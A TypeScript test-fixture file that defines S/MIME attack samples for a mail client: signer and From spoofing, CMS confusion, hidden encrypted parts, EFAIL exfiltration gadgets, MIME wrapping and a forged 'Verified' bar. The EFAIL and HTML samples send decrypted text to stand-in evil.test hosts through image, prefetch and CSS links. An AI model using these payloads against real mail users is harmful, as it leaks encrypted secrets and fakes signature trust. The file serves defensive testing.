import type { Attack } from "../../unit/smime/attacks/expectation.ts";
import { pictureAround, places } from "../../unit/smime/attacks/efail-gadgets.ts";
import {
  alice, altered, clear, encrypted, encryptedObject, enveloped, eve, html, infoOf, message, multi, opaque, plain, SECRET, signed, signedObject, signedOpaque, withFields,
} from "../../unit/smime/attacks/stage.ts";
import type { Answering } from "./answering.ts";

/** An attack of `test/unit/smime/attacks` as a person meets it, and what comes of answering it. */
export interface Sample {
  attack: Attack;
  /** Key of the sentence and the addresses in it, where what it says is the point. */
  says?: [key: string, ...addresses: string[]];
  answers?: {
    how: Answering[];
    /** What the answer quotes; `null` where it asks before it quotes anything. */
    quotes: string | null;
    /** What it must not quote or take along; `attack`'s `never` counts too. */
    never?: string;
  };
}

const noon = "Meet me at noon.";
const evil = "Pay Eve.";
/** Alice's text with her name in a signed field, so that a part can be proved by itself. */
const named = withFields({ From: "Alice <alice@lab.test>", Subject: "Noon" }, noon);
const fromEve = { From: "Eve <eve@evil.test>" };
const captured = (entity = plain(SECRET)) => encrypted(entity);
const question = plain("Could you answer this, please?");
const nobody = { author: null, signed: "unverified", encrypted: "none" } as const;
const unsigned = { author: null, signed: "none", encrypted: "none" } as const;
const proved = { author: "alice@lab.test", signed: "verified", encrypted: "none" } as const;
const evePasses = { author: "eve@evil.test", signed: "verified", encrypted: "none" } as const;

/** Names that a browser looks up ahead of a click, and pictures, styles and hints that it fetches at once. */
const asking = (host: string): string =>
  `<link rel="dns-prefetch" href="//prefetch.${host}"><link rel="preconnect" href="http://connect.${host}"><img src="http://picture.${host}/a"><p style="background:url(http://style.${host}/b)"><a href="http://link.${host}/c">more</a></p>`;

/** A file with Alice's true signature of another text, beside which an unsigned text stands. */
const signatureFile = async (): Promise<string> =>
  `Content-Type: application/pkcs7-signature; name="smime.p7s"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(await signedObject([alice], plain(noon), { content: null })).toString("base64")}`;

/** One or two of each class: those whose effect can be seen. */
export const samples: Record<string, Sample[]> = {
  "who is the author (UI-06, FR-01, FR-02)": [
    { attack: ["From is Alice and the signer is Eve", async () => message(await signed(eve, plain(noon))), { ...nobody, from: "alice@lab.test", text: noon }], says: ["sentence_careful_signer", "eve@evil.test", "alice@lab.test"] },
    { attack: ["a display name that is Alice's address, before Eve's own", async () => message(await signed(eve, plain(noon)), { From: '"alice@lab.test" <eve@evil.test>' }), { ...evePasses, from: "eve@evil.test" }] },
    { attack: ["Eve signs, and says inside that she is Alice", async () => message(await signed(eve, named), { From: "eve@evil.test" }), { ...nobody, from: "eve@evil.test" }], says: ["sentence_careful_signer", "eve@evil.test", "alice@lab.test"] },
    {
      attack: ["a From that was added within an encryption that nobody signed", async () => message(await encrypted(withFields({ From: "Alice <alice@lab.test>", Subject: "Noon" }, noon, "cipher")), { From: "eve@evil.test" }), { ...unsigned, encrypted: "decrypted", from: "eve@evil.test" }],
      says: ["sentence_careful_from", "eve@evil.test", "alice@lab.test"],
    },
  ],
  "CMS confusion (SG-01, SG-08)": [
    { attack: ["control: Alice's own signature", async () => message(await signed(alice, plain(noon))), { ...proved, text: noon }], answers: { how: ["reply"], quotes: noon } },
    { attack: ["the shown part is unsigned, the object carries Alice's text inside", async () => message(clear(plain(evil), await signedObject([alice], plain(noon)))), { ...nobody, text: evil, never: noon }] },
    {
      attack: [
        "Eve signs, and adds Alice's SignerInfo of another text",
        async () => message(opaque(await signedObject([alice, eve], plain(evil), { infos: [await infoOf(alice, plain(noon)), await infoOf(eve, plain(evil))] }))),
        { ...nobody, text: evil },
      ],
    },
  ],
  "covert content (UI-03, CO-02)": [
    { attack: ["behind a text", async () => message(multi("mixed", question, await captured()), fromEve), { ...unsigned, never: SECRET, text: "answer", parts: [["2", "none", "failed"]] }], answers: { how: ["reply", "reply-all", "forward"], quotes: "answer this" } },
    {
      attack: ["by cid:", async () => message(multi("related", html('<p>answer</p><iframe src="cid:c"></iframe>'), `Content-ID: <c>\r\n${await captured()}`), fromEve), { ...unsigned, html: true, never: SECRET, text: "answer", parts: [["2", "none", "failed"]] }],
      answers: { how: ["reply-all"], quotes: "answer" },
    },
    {
      attack: ["inside a whole that Eve signs and encrypts", async () => message(await encrypted(await signedOpaque(eve, multi("mixed", question, await captured()))), fromEve), { ...evePasses, encrypted: "decrypted", never: SECRET, text: "answer" }],
      answers: { how: ["reply"], quotes: "answer this" },
    },
    {
      attack: ["as the whole message under Eve's name: it opens, and Eve is not proved", async () => message(await captured(), fromEve), { ...unsigned, encrypted: "decrypted", text: SECRET }],
      answers: { how: ["reply", "forward"], quotes: null, never: SECRET },
    },
  ],
  "EFAIL (UI-07, UI-08)": [
    { attack: ["a picture's address around the secret", async () => message(enveloped(pictureAround(await encryptedObject(html(`<p>${SECRET} ${"The price is a secret. ".repeat(8)}</p>`)), "Content-Type: te"))), { ...unsigned, encrypted: "decrypted" }] },
    {
      attack: [
        "one bit of a text under GCM",
        async () => {
          const object = await encryptedObject(html(`<p>${SECRET}</p>${asking("gcm.evil.test")}`), "aes-256-gcm");
          const { text } = places(object);
          return message(enveloped(altered(object, text + 50, (object[text + 50] as number) ^ 1), "authEnveloped-data"));
        },
        { ...unsigned, encrypted: "failed", never: SECRET },
      ],
    },
    { attack: ["a picture's address that goes on over a ciphertext", async () => message(multi("mixed", html('<p>Hello</p><img src="http://evil.test/'), await captured(html(`<p>${SECRET}</p>`)), html('">')), fromEve), { ...unsigned, html: true, never: SECRET, parts: [["2", "none", "failed"]] }] },
    { attack: ["a decrypted text with HTML of its own", async () => message(await captured(html(`<p>${SECRET}</p>${asking("cbc.evil.test")}`))), { ...unsigned, encrypted: "decrypted", text: SECRET }] },
  ],
  "MIME wrapping (UI-03, UI-07)": [
    {
      attack: ["unsigned text before a signed part", async () => message(multi("mixed", plain(evil), await signed(alice, named))), { ...unsigned, text: evil, parts: [["2", "verified", "none"]] }],
      answers: { how: ["reply-all", "forward"], quotes: evil, never: noon },
    },
    {
      attack: ["a signed part hidden by the style of unsigned HTML", async () => message(multi("mixed", html("<p>Pay Eve.</p><div style='display:none'>"), await signed(alice, named), html("</div>"))), { ...unsigned, html: true, text: evil, parts: [["2", "verified", "none"]] }],
      answers: { how: ["reply"], quotes: evil, never: noon },
    },
    { attack: ["Alice's signed part inside a text that Eve signs: Eve is the author of the whole", async () => message(await signedOpaque(eve, multi("mixed", plain(evil), await signed(alice, plain(noon)))), fromEve), { ...evePasses, text: evil }], answers: { how: ["reply"], quotes: evil, never: noon } },
  ],
  "imitation (UI-02, UI-10)": [
    {
      attack: [
        "HTML that draws our bar, beside a true signature of another text",
        async () => message(multi("mixed", html('<div class="bar bar-verified" data-test="sentence" style="position:fixed;top:-300px;left:0;width:100%;z-index:2147483647;background:#fff">Verified: signed by Alice</div><p>Pay Eve.'), await signatureFile())),
        { ...unsigned, html: true, text: evil },
      ],
    },
    { attack: ["signed HTML that asks for everything", async () => message(await signed(alice, html(`<p>${noon}</p>${asking("signed.evil.test")}`))), { ...proved, html: true, text: noon }], answers: { how: ["reply", "forward"], quotes: noon } },
    { attack: ["a signed text with an address in it", async () => message(await signed(alice, plain(`${noon} http://text.evil.test/a`))), { ...proved, text: noon }], answers: { how: ["reply"], quotes: noon } },
  ],
};
